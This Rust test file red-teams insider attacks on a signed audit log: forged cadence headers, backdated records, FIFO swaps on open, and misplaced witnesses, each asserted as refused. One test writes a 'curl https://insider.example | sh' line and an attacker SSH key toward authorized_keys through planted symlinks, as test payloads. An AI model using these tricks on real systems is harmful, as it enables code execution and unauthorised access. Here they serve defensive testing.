//! Red-team review of the insider defences (signed header and cadence,
//! witness, verification before resuming). Insider A writes the log
//! directory and holds no key; insider B also holds the HMAC key, not the
//! checkpoint key.
//!
//! A stopped attack is a plain test asserting the refusal next to its
//! honest control. The five findings of the review are fixed: the open
//! reads twice and compares, log files are opened without following
//! symlinks or blocking on FIFOs, a witness inside the log directory is
//! refused, every checkpoint names its log, and the writer holds the log to
//! its configured cadence. What stays open is documented in
//! docs/audit-format.md (backdated `ts` without a witness).

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use aigos_audit::{AuditLog, Checkpoint, Error, read_witness};
use serde_json::json;

use crate::insider::{approve_everything, checkpoints, lines, rechain, segment, tree_sizes, witnessed_log, write_lines};
use crate::{config, verify_full, verify_witnessed};

fn segment_at(dir: &Path, seq: u64) -> PathBuf {
    dir.join(format!("{seq:020}.jsonl"))
}

/// The segment files of `dir`, by first seq.
fn segment_files(dir: &Path) -> Vec<(u64, PathBuf)> {
    let mut out: Vec<(u64, PathBuf)> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter_map(|p| {
            let stem = p.file_name()?.to_str()?.strip_suffix(".jsonl")?.to_owned();
            let seq: u64 = stem.parse().ok().filter(|_| stem.len() == 20)?;
            Some((seq, p))
        })
        .collect();
    out.sort();
    out
}

fn append_text(path: &Path, text: &str) {
    use std::io::Write;
    std::fs::OpenOptions::new().append(true).open(path).unwrap().write_all(text.as_bytes()).unwrap();
}

// ---------------------------------------------------------------------------
// Findings of the review, fixed (each test performed the attack and failed
// before the fix)
// ---------------------------------------------------------------------------

/// A header signed by the same key for another log (another Guard, a
/// scratch log made with `aigos audit append --checkpoint-every 1000000`)
/// with a laxer cadence, put in place of this log's header with every
/// later checkpoint deleted, would make the whole rewritten log "an
/// unsigned tail within the cadence". Every checkpoint names its log now
/// (a random id drawn with the header), the witness is a checkpoint of this
/// log, and the writer holds the log to its configured cadence too.
#[test]
fn redteam_a_header_from_another_log_does_not_raise_the_cadence() {
    let root = tempfile::tempdir().unwrap();
    let (dir, witness, _g) = witnessed_log(12, 4);
    assert_eq!(tree_sizes(&dir), [0, 4, 8, 12]);
    let own = lines(&checkpoints(&dir));
    // Every checkpoint of this log names the same log id, 32 hex digits.
    let ids: Vec<String> = own.iter().map(|l| serde_json::from_str::<Checkpoint>(l).unwrap().log).collect();
    assert!(ids.iter().all(|id| *id == ids[0] && id.len() == 32), "{ids:?}");
    // Insider B rewrites every REJECTED as APPROVED and drops the checkpoints.
    rechain(&dir, approve_everything);
    // Control: with its own header, 12 unsigned records exceed the cadence of 4.
    write_lines(&checkpoints(&dir), &own[..1]);
    let e = verify_full(&dir).unwrap_err();
    assert!(e.reason.contains("header allows 4"), "{e}");
    assert!(AuditLog::open(config(&dir)).is_err());
    // Another log signed by the same checkpoint key, with a lax cadence.
    let other = root.path().join("other");
    crate::write_log(&other, 1, config(&other).checkpoints(1_000_000, Duration::from_secs(365 * 24 * 3600)));
    let lax = lines(&checkpoints(&other))[0].clone();
    let lax_cp: Checkpoint = serde_json::from_str(&lax).unwrap();
    assert_eq!(lax_cp.tree_size, 0);
    assert_ne!(lax_cp.log, ids[0], "two logs draw two ids");
    write_lines(&checkpoints(&dir), &[lax]);
    // With the witness: it is a checkpoint of this log, not of the other.
    let w = read_witness(&witness).unwrap();
    let e = verify_witnessed(&dir, Some(&w)).unwrap_err();
    assert!(e.reason.contains("another log") || e.reason.contains("not the tree the witness signed"), "{e}");
    assert!(AuditLog::open(config(&dir).checkpoints(4, Duration::from_secs(3600)).witness(&witness)).is_err());
    // Without a witness, the Guard holds the log to its configured cadence
    // (here the 4 records it was written with): refused, nothing signed.
    let before = lines(&checkpoints(&dir));
    assert!(AuditLog::open(config(&dir).checkpoints(4, Duration::from_secs(3600))).is_err());
    assert_eq!(lines(&checkpoints(&dir)), before, "nothing was signed over the rewritten log");
    // And so does `verify_log` given the configured cadence (`aigos audit
    // verify --checkpoint-every 4`).
    let e = verify_with_cadence(&dir, 4).unwrap_err();
    assert!(e.reason.contains("verifier's cadence allows 4"), "{e}");
    // The documented limit: a verifier with neither the witness nor its own
    // cadence takes the header's word (docs/audit-format.md).
    assert!(verify_full(&dir).is_ok());
}

/// `verify_log` with the MAC and checkpoint keys and the verifier's own
/// cadence of `every` records (no witness).
fn verify_with_cadence(dir: &Path, every: u64) -> Result<aigos_audit::Summary, aigos_audit::Tampering> {
    let mac = crate::mac_key();
    let macs = move |kid: &str| (kid == mac.kid).then(|| mac.clone());
    let public = crate::signing_key().public_key().clone();
    let kid = crate::signing_key().kid().to_string();
    let keys = move |k: &str| (k == kid).then(|| public.clone());
    let opts = aigos_audit::VerifyOptions {
        mac_keys: Some(&macs),
        checkpoint_keys: Some(&keys),
        cadence: Some(aigos_audit::Cadence { records: every, interval_ms: u64::MAX }),
        ..Default::default()
    };
    aigos_audit::verify_log(aigos_crypto::default_provider(), dir, &opts)
}

/// Records after the last checkpoint carry the `ts` the insider gives them:
/// one holding the HMAC key rewrites them with any `ts` (here all within
/// the first second, even running backwards), so the interval bound T does
/// not limit a rewrite: without a witness, the last N records are
/// rewritable however long they span. That is the documented limit
/// (docs/audit-format.md, docs/threat-model.md); the witness is what closes
/// it, shown here.
#[test]
fn redteam_hmac_insider_cannot_rewrite_records_older_than_the_interval() {
    let dir = tempfile::tempdir().unwrap();
    let t0: u64 = 1_800_000_000_000;
    let clock = aigos_core::ManualClock::at_secs(t0 / 1000);
    let cfg = || config(dir.path()).clock(Arc::new(clock.clone())).checkpoints(10, Duration::from_secs(1));
    let (log, _) = AuditLog::open(cfg()).unwrap();
    for i in 0..10u64 {
        let status = if i % 2 == 0 { "REJECTED" } else { "APPROVED" };
        log.append_blocking("validation", "agent", json!({"i": i, "status": status})).unwrap();
        clock.advance(Duration::from_secs(10));
    }
    log.close_blocking().unwrap();
    // The last checkpoint, as a witness kept elsewhere would hold it.
    let witness_copy: Checkpoint = serde_json::from_str(lines(&checkpoints(dir.path())).last().unwrap()).unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    let witness_path = elsewhere.path().join("witness.json");
    // 10 records over 90 s: the 1 s interval put a checkpoint before each.
    assert_eq!(tree_sizes(dir.path()), (0..=10).collect::<Vec<_>>());
    let header = lines(&checkpoints(dir.path()))[..1].to_vec();
    // Control: cutting the checkpoints alone (insider A) leaves records 1..
    // 10 s and more after the header: refused.
    write_lines(&checkpoints(dir.path()), &header);
    let e = verify_full(dir.path()).unwrap_err();
    assert_eq!(e.seq, 1, "{e}");
    assert!(e.reason.contains("1000 ms"), "{e}");
    // Insider B: the same cut, records rewritten with ts backdated into the
    // first second after the header (record 1 even before record 0).
    rechain(dir.path(), |seq, body| {
        let old = format!("\"ts\":{}", t0 + seq * 10_000);
        let new = format!("\"ts\":{}", if seq == 0 { t0 } else { t0 + 500 - seq });
        assert!(body.contains(&old), "{body}");
        approve_everything(seq, &body.replace(&old, &new))
    });
    // The limit: the keys alone cannot tell backdated records.
    assert!(verify_full(dir.path()).is_ok());
    // The witness, written with the last checkpoint, still holds the
    // records as they were: the rewrite fails against it, and a writer
    // with the witness refuses to resume.
    let e = verify_witnessed(dir.path(), Some(&witness_copy)).unwrap_err();
    assert!(e.reason.contains("not the tree the witness signed") || e.reason.contains("witness"), "{e}");
    std::fs::write(&witness_path, serde_json::to_string(&witness_copy).unwrap() + "\n").unwrap();
    assert!(AuditLog::open(cfg().witness(&witness_path)).is_err(), "the writer resumed on the rewritten records and signed them");
}

/// `AuditLog::open` reads the log twice: `recover` builds the writer's
/// state (frontier, head, checkpoints) from one read, `verify_on_open`
/// verifies another read, and nothing checks they are the same. An insider
/// who makes the segment and `checkpoints.jsonl` FIFOs (or swaps files
/// between the two reads) shows recovery a rewritten log and verification
/// the genuine one: the writer then signs a checkpoint over the rewritten
/// tree and writes it to the witness too. Here insider B rewrites every
/// REJECTED as APPROVED far beyond the cadence, with a witness configured.
#[cfg(target_os = "linux")]
#[test]
fn redteam_open_resumes_from_the_log_it_verified() {
    use std::sync::atomic::{AtomicBool, Ordering};
    let (dir, witness, _g) = witnessed_log(6, 4);
    assert_eq!(tree_sizes(&dir), [0, 4, 6]);
    let cfg = || config(&dir).checkpoints(4, Duration::from_secs(3600)).witness(&witness);
    // The writer appends to the last segment: an empty one after the records.
    std::fs::write(segment_at(&dir, 6), b"").unwrap();
    verify_witnessed(&dir, Some(&read_witness(&witness).unwrap())).unwrap();
    let genuine_seg = std::fs::read(segment(&dir)).unwrap();
    let genuine_cps = std::fs::read(checkpoints(&dir)).unwrap();
    // Insider B's rewrite, checkpoints after the header dropped.
    rechain(&dir, approve_everything);
    let forged_seg = std::fs::read(segment(&dir)).unwrap();
    let forged_cps = format!("{}\n", lines(&checkpoints(&dir))[0]);
    write_lines(&checkpoints(&dir), &[lines(&checkpoints(&dir))[0].clone()]);
    // Control: as plain files the rewrite is refused (6 records > cadence 4, and the witness).
    assert!(verify_witnessed(&dir, Some(&read_witness(&witness).unwrap())).is_err());
    assert!(matches!(AuditLog::open(cfg()), Err(Error::Corrupt { .. })));
    // The attack: FIFOs served by the insider, in the order open reads them.
    for p in [segment(&dir), checkpoints(&dir)] {
        std::fs::remove_file(&p).unwrap();
        assert!(std::process::Command::new("mkfifo").arg(&p).status().unwrap().success());
    }
    let stop = Arc::new(AtomicBool::new(false));
    let insider = {
        let (seg, cps, stop) = (segment(&dir), checkpoints(&dir), stop.clone());
        let (forged_cps, forged_seg, genuine_cps) = (forged_cps.into_bytes(), forged_seg.clone(), genuine_cps.clone());
        std::thread::spawn(move || {
            let deadline = std::time::Instant::now() + Duration::from_secs(60);
            let served = fifo::serve(&cps, &forged_cps, &stop, deadline) // recover_checkpoints
                && fifo::serve(&seg, &forged_seg, &stop, deadline) // recover: the writer's frontier
                && fifo::serve(&cps, &genuine_cps, &stop, deadline) // verify_on_open
                && fifo::serve(&seg, &genuine_seg, &stop, deadline); // verify_on_open
            if served { fifo::capture(&cps, &stop, deadline) } else { None }
        })
    };
    let opened = AuditLog::open(cfg());
    stop.store(true, Ordering::SeqCst);
    let signed = insider.join().unwrap();
    drop(opened);
    // Put regular files back: the rewritten records, the header and what the writer signed.
    for p in [segment(&dir), checkpoints(&dir)] {
        std::fs::remove_file(&p).unwrap();
    }
    std::fs::write(segment(&dir), &forged_seg).unwrap();
    let mut cps = lines_of(&genuine_cps)[..1].to_vec();
    cps.extend(signed.iter().map(|l| l.trim_end().to_owned()));
    write_lines(&checkpoints(&dir), &cps);
    // Secure behaviour: the rewritten log does not verify against the witness...
    let verified = verify_witnessed(&dir, Some(&read_witness(&witness).unwrap()));
    assert!(
        verified.is_err(),
        "the rewritten log verifies with keys and witness (signed and witnessed by the writer: {signed:?}): {verified:?}"
    );
    // ...and the writer signed no checkpoint over another tree than the genuine one.
    if let Some(line) = &signed {
        let cp: Checkpoint = serde_json::from_str(line.trim_end()).unwrap();
        let genuine_root = lines_of(&genuine_cps).last().map(|l| serde_json::from_str::<Checkpoint>(l).unwrap().root).unwrap();
        assert_eq!(cp.root, genuine_root, "the writer signed a checkpoint over the rewritten tree: {line}");
    }
}

fn lines_of(bytes: &[u8]) -> Vec<String> {
    String::from_utf8(bytes.to_vec()).unwrap().lines().map(str::to_owned).collect()
}

/// FIFO plumbing for the attacker, non-blocking so that a writer that
/// refuses FIFOs does not hang the test.
#[cfg(target_os = "linux")]
mod fifo {
    use std::io::{Read, Write};
    use std::os::unix::fs::OpenOptionsExt;
    use std::path::Path;
    use std::sync::atomic::{AtomicBool, Ordering};
    use std::time::{Duration, Instant};

    const O_NONBLOCK: i32 = 0o4000;
    const ENXIO: i32 = 6;

    /// Writes `content` to the next reader of the FIFO; false when none came.
    pub(super) fn serve(path: &Path, content: &[u8], stop: &AtomicBool, deadline: Instant) -> bool {
        loop {
            match std::fs::OpenOptions::new().write(true).custom_flags(O_NONBLOCK).open(path) {
                Ok(mut f) => {
                    f.write_all(content).unwrap();
                    return true;
                }
                Err(e) if e.raw_os_error() == Some(ENXIO) => {
                    if stop.load(Ordering::SeqCst) || Instant::now() > deadline {
                        return false;
                    }
                    std::thread::sleep(Duration::from_millis(1));
                }
                Err(e) => panic!("{}: {e}", path.display()),
            }
        }
    }

    /// Reads the next line a writer puts into the FIFO.
    pub(super) fn capture(path: &Path, stop: &AtomicBool, deadline: Instant) -> Option<String> {
        let mut f = std::fs::OpenOptions::new().read(true).custom_flags(O_NONBLOCK).open(path).unwrap();
        let mut got = Vec::new();
        loop {
            let stopped = stop.load(Ordering::SeqCst);
            let mut chunk = [0u8; 4096];
            loop {
                match f.read(&mut chunk) {
                    Ok(0) => break,
                    Ok(n) => got.extend_from_slice(&chunk[..n]),
                    Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => break,
                    Err(e) => panic!("{e}"),
                }
            }
            if got.ends_with(b"\n") {
                return Some(String::from_utf8(got).unwrap());
            }
            if stopped || Instant::now() > deadline {
                return None;
            }
            std::thread::sleep(Duration::from_millis(1));
        }
    }
}

/// The witness must live outside the log directory (docs), but nothing
/// checks it: with `witness = <log dir>/witness.json` insider A cuts the
/// records and checkpoints and puts an older checkpoint line back as the
/// witness; the writer verifies "against the witness" and resumes.
#[test]
fn redteam_a_witness_inside_the_log_directory_is_refused() {
    let root = tempfile::tempdir().unwrap();
    let dir = root.path().join("audit");
    let witness = dir.join("witness.json");
    let cfg = || config(&dir).checkpoints(3, Duration::from_secs(3600)).witness(&witness);
    let log = match AuditLog::open(cfg()) {
        Ok((log, _)) => log,
        Err(e) => {
            // The secure behaviour: refused at once.
            assert!(e.to_string().contains("witness"), "{e}");
            return;
        }
    };
    for i in 0..9 {
        log.append_blocking("validation", "agent", json!({"i": i})).unwrap();
    }
    log.close_blocking().unwrap();
    assert_eq!(read_witness(&witness).unwrap().tree_size, 9);
    // Insider A: records 6.. and their checkpoints cut, witness rolled back.
    let seg = lines(&segment(&dir));
    write_lines(&segment(&dir), &seg[..6]);
    let cps = lines(&checkpoints(&dir));
    write_lines(&checkpoints(&dir), &cps[..3]);
    std::fs::write(&witness, format!("{}\n", cps[2])).unwrap();
    let opened = AuditLog::open(cfg());
    assert!(opened.is_err(), "the writer resumed on a truncated log: its witness sits in the log directory");
}

/// Recovery moves a torn final line (of a segment or of checkpoints.jsonl)
/// to `<name>.jsonl.torn`, opened with `O_APPEND | O_CREAT` and no
/// `O_NOFOLLOW`, before any verification and whatever keys are configured.
/// Insider A plants the `.torn` name as a symlink to a file of the Guard's
/// user and appends the text to write there as a final line: the next start
/// appends it to that file (`authorized_keys`, a shell profile, the config).
#[cfg(unix)]
#[test]
fn redteam_recovery_does_not_write_through_a_planted_symlink() {
    let (dir, witness, g) = witnessed_log(3, 2);
    let victim_cp = g.path().join("authorized_keys");
    let victim_seg = g.path().join("profile");
    std::fs::write(&victim_cp, "original\n").unwrap();
    std::fs::write(&victim_seg, "original\n").unwrap();
    // checkpoints.jsonl: an unparseable last line is "torn".
    std::os::unix::fs::symlink(&victim_cp, dir.join("checkpoints.jsonl.torn")).unwrap();
    append_text(&checkpoints(&dir), "ssh-ed25519 AAAAC3Nza insider@elsewhere\n");
    drop(AuditLog::open(config(&dir).witness(&witness)));
    // The segment: a last line after the last checkpoint that does not check.
    std::os::unix::fs::symlink(&victim_seg, dir.join(format!("{:020}.jsonl.torn", 0))).unwrap();
    append_text(&segment(&dir), "curl https://insider.example | sh\n");
    drop(AuditLog::open(config(&dir).witness(&witness)));
    assert_eq!(std::fs::read_to_string(&victim_cp).unwrap(), "original\n", "recovery wrote through checkpoints.jsonl.torn");
    assert_eq!(std::fs::read_to_string(&victim_seg).unwrap(), "original\n", "recovery wrote through the segment's .torn");
}

// ---------------------------------------------------------------------------
// Documented limit
// ---------------------------------------------------------------------------

/// Whoever can write the witness file too rolls it back with the log, and
/// needs no key and no saved copy: every line of `checkpoints.jsonl` is a
/// valid older witness. Not detected; documented in threat-model.md
/// ("Whoever can write both the log directory and the witness's volume is
/// not stopped"). This test pins the limit, next to its control.
#[test]
fn redteam_an_older_witness_put_back_with_the_log_is_the_documented_limit() {
    let (dir, witness, _g) = witnessed_log(9, 3);
    let current = read_witness(&witness).unwrap();
    let seg = lines(&segment(&dir));
    write_lines(&segment(&dir), &seg[..6]);
    let cps = lines(&checkpoints(&dir));
    write_lines(&checkpoints(&dir), &cps[..3]);
    // Control: against the current witness the cut is caught.
    assert!(verify_witnessed(&dir, Some(&current)).unwrap_err().reason.contains("witness signed 9"));
    // The limit: the checkpoint of 6, taken from checkpoints.jsonl, as witness.
    std::fs::write(&witness, format!("{}\n", cps[2])).unwrap();
    let older = read_witness(&witness).unwrap();
    assert_eq!(older.tree_size, 6);
    assert_eq!(verify_witnessed(&dir, Some(&older)).unwrap().records, 6);
    assert!(AuditLog::open(config(&dir).witness(&witness)).is_ok());
}

// ---------------------------------------------------------------------------
// Stopped attacks
// ---------------------------------------------------------------------------

#[test]
fn redteam_renamed_swapped_or_removed_segments_are_refused() {
    let root = tempfile::tempdir().unwrap();
    let dir = root.path().join("audit");
    let witness = root.path().join("w.json");
    let cfg = || config(&dir).segment_max_bytes(1500).checkpoints(3, Duration::from_secs(3600)).witness(&witness);
    let (log, _) = AuditLog::open(cfg()).unwrap();
    for i in 0..12 {
        log.append_blocking("validation", "agent", json!({"i": i, "status": "REJECTED"})).unwrap();
    }
    log.close_blocking().unwrap();
    let segs = segment_files(&dir);
    assert!(segs.len() >= 3, "{segs:?}");
    let w = read_witness(&witness).unwrap();
    // Control: the honest multi-segment log verifies and reopens.
    verify_witnessed(&dir, Some(&w)).unwrap();
    drop(AuditLog::open(cfg()).unwrap());
    let attempt = |what: &str, change: &dyn Fn()| {
        let saved: Vec<(PathBuf, Vec<u8>)> = segment_files(&dir).into_iter().map(|(_, p)| (p.clone(), std::fs::read(p).unwrap())).collect();
        change();
        let e = verify_witnessed(&dir, Some(&w)).unwrap_err();
        assert!(e.reason.contains("segment") || e.reason.contains("seq"), "{what}: {e}");
        assert!(matches!(AuditLog::open(cfg()), Err(Error::Corrupt { .. })), "{what}");
        for (_, p) in segment_files(&dir) {
            std::fs::remove_file(p).unwrap();
        }
        for (p, b) in saved {
            std::fs::write(p, b).unwrap();
        }
        verify_witnessed(&dir, Some(&w)).unwrap();
    };
    let (s1, p1) = segs[1].clone();
    let (_, p2) = segs[2].clone();
    attempt("renamed one seq later", &|| std::fs::rename(&p1, segment_at(&dir, s1 + 1)).unwrap());
    attempt("contents of two segments swapped", &|| {
        let (a, b) = (std::fs::read(&p1).unwrap(), std::fs::read(&p2).unwrap());
        std::fs::write(&p1, b).unwrap();
        std::fs::write(&p2, a).unwrap();
    });
    attempt("a middle segment removed", &|| std::fs::remove_file(&p1).unwrap());
}

#[test]
fn redteam_a_broken_record_under_a_checkpoint_is_not_moved_aside_as_torn() {
    // Recovery moves a bad final line aside only after the last checkpoint:
    // a keyless insider cannot make it cut a signed record.
    let (dir, witness, _g) = witnessed_log(4, 2);
    assert_eq!(*tree_sizes(&dir).last().unwrap(), 4);
    let honest = std::fs::read(segment(&dir)).unwrap();
    let text = String::from_utf8(honest.clone()).unwrap();
    let at = text.rfind("\"i\":3").unwrap();
    let mut broken = text.clone();
    broken.replace_range(at..at + 5, "\"i\":4");
    std::fs::write(segment(&dir), &broken).unwrap();
    let e = AuditLog::open(config(&dir).witness(&witness)).unwrap_err();
    assert!(matches!(&e, Error::Corrupt { seq: 3, .. }), "{e}");
    assert_eq!(std::fs::read_to_string(segment(&dir)).unwrap(), broken, "the segment was left as it is");
    assert!(!dir.join(format!("{:020}.jsonl.torn", 0)).exists());
    // Control: a torn line after the last checkpoint is moved aside.
    std::fs::write(segment(&dir), &honest).unwrap();
    append_text(&segment(&dir), "{\"body\":");
    let (_log, rec) = AuditLog::open(config(&dir).witness(&witness)).unwrap();
    assert_eq!((rec.records, rec.torn.map(|t| t.1)), (4, Some(8)));
}

#[test]
fn redteam_a_writer_reopened_with_a_lax_cadence_keeps_the_header_cadence() {
    // Reopening with a laxer configuration does not let a crash leave more
    // unsigned records than the header allows.
    let (dir, witness, _g) = witnessed_log(2, 3);
    let (log, _) = AuditLog::open(config(&dir).checkpoints(1_000_000, Duration::from_secs(86_400)).witness(&witness)).unwrap();
    for i in 0..10 {
        log.append_blocking("k", "a", json!({"i": i})).unwrap();
    }
    // A crash: no final checkpoint (the writer is never dropped).
    std::mem::forget(log);
    let s = verify_witnessed(&dir, Some(&read_witness(&witness).unwrap())).unwrap();
    assert_eq!(s.records, 12);
    assert_eq!(s.cadence.map(|c| c.records), Some(3));
    assert!(s.unsigned_tail <= 3, "{s:?}");
    // Control: the header's own cadence is what verify holds it to.
    let header = lines(&checkpoints(&dir))[..1].to_vec();
    write_lines(&checkpoints(&dir), &header);
    assert!(verify_full(&dir).unwrap_err().reason.contains("header allows 3"));
}

#[test]
fn redteam_a_checkpoint_line_appended_from_another_log_is_refused() {
    // Insider A appends the latest checkpoint of another log signed by the
    // same key (same tree size, other tree): verify and open refuse it.
    let (dir, witness, _g) = witnessed_log(5, 3);
    let other = tempfile::tempdir().unwrap();
    crate::write_log(other.path(), 5, config(other.path()).checkpoints(3, Duration::from_secs(3600)));
    let foreign = lines(&checkpoints(other.path())).last().unwrap().clone();
    verify_full(&dir).unwrap();
    append_text(&checkpoints(&dir), &format!("{foreign}\n"));
    assert!(verify_full(&dir).unwrap_err().reason.contains("root or head does not match"));
    assert!(matches!(AuditLog::open(config(&dir).witness(&witness)), Err(Error::Corrupt { .. })));
}
